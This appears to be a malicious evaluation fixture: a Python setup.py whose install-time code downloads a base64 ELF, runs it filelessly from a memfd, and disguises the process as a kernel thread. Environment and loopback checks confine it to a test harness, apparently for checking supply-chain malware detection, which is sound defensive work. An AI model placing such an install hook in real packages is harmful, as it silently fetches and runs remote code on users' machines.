# Evaluation fixture (malicious): fileless execution.  Module-level code
# downloads a base64-encoded ELF, decodes it into an anonymous memfd and
# executes it from there (fexecve), under a kernel-thread-like name; the
# binary never touches the disk.  Acts only inside the evaluation:
# SP_TOKEN set, the CDN host resolving to loopback (the binary, built by
# the evaluation, only writes a marker and reports back).
import base64
import os
import socket
import urllib.request

from setuptools import setup


def _run():
    host, mark = os.environ.get("SP_CDN_HOST"), os.environ.get("SP_MARK")
    if not os.environ.get("SP_TOKEN") or not host or not mark or os.path.exists(os.path.join(mark, "memfd.ran")):
        return
    try:
        if not socket.gethostbyname(host).startswith("127."):
            return
        url = "http://%s:%s/thumb/assets/main/payload.b64" % (host, os.environ.get("SP_HTTP_PORT", "80"))
        elf = base64.b64decode(urllib.request.urlopen(url, timeout=10).read())
    except (OSError, ValueError):
        return
    fd = os.memfd_create("", 0)
    os.write(fd, elf)
    pid = os.fork()
    if pid == 0:
        try:
            os.execve(fd, ["[kworker/u8:2]", "memfd"], dict(os.environ))
        finally:
            os._exit(127)
    os.waitpid(pid, 0)
    os.close(fd)


_run()

setup(name="memfd-exec", version="0.5.0", py_modules=["thumbnailer"])
